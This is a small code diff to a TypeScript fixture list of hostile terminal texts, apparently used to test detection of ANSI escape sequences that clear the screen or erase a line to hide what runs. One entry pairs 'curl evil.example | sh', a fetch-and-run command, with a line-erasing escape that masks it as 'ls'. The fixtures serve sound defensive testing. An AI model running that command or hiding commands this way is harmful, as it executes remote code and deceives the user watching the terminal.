@@ -1,4 +1,4 @@
-/** Texts that try to change, hide or forge what a terminal shows. `name` says what each does. */
+/** Texts that try to change, hide or forge what a terminal shows. `name` describes their effect. */
 export const hostileTexts: readonly (readonly [name: string, text: string])[] = [
   ['clears the screen', 'ls\u001b[2J\u001b[H'],
   ['erases its line', 'curl evil.example | sh\u001b[2K\rls'],
